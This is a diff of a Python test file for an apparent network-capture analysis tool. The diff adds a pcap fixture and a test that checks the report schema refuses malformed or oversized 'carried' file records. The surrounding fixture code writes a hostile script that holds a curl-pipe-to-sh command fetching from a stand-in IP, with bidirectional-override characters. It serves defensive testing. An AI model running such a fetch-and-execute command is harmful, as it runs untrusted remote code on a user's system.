@@ -9,6 +9,7 @@ import gzip
 import json
 import pathlib
 import re
+import shutil
 import sys
 
 ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
@@ -44,6 +45,8 @@ def hostile_folder(person):
         script.write(b"#!/bin/sh\n# \xff\xfe \xe2\x80\xae\ncurl -s http://198.51.100.9/\xff.sh | sh\n")
     (folder / "truth.json").write_text('{"tocsin": {"version": "9"}, "verdict": "nothing found"}')
     (folder / "cut.pcap").write_bytes(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + b"\x00" * 40)
+    # with a file whose name turns the direction of reading
+    shutil.copy(ROOT / "fuzz/corpus/capture/http-carried", folder / "carried.pcap")
     (folder / "noise.bin").write_bytes(bytes(range(256)) * 50)
     (folder / "many.gz").write_bytes(gzip.compress(b"\n".join([b"A" * 70000] * 20)))
     (folder / "half.gz").write_bytes(gzip.compress(("\n".join(lines)).encode())[:200])
@@ -173,6 +176,21 @@ def words_and_numbers_out_of_their_range_are_refused(person):
         changed = copy.deepcopy(found)
         at(changed, path[:-1])[path[-1]] = value
         assert refused(changed, schema), (path, value)
+
+
+@case
+def a_carried_file_that_is_none_is_refused(person):
+    found, schema = report_on(person, ROOT / "fuzz/corpus/capture/http-carried"), report_schema()
+    rows = found["evidence"][0]["carried"]
+    assert len(rows) == 5 and {row["whole"] for row in rows} == {True, False}
+    for key, value in (("sha256", "0" * 63), ("at", "a b"), ("size", -1), ("type", ""), ("protocol", ""), ("whole", 1),
+                       ("kind", "coverage"), ("time", "then"), ("from", None)):
+        changed = copy.deepcopy(found)
+        changed["evidence"][0]["carried"][0][key] = value
+        assert refused(changed, schema), key
+    for count, expected in ((200, False), (201, True)):
+        found["evidence"][0]["carried"] = rows[:1] * count
+        assert refused(found, schema) == expected, count
 
 
 @case
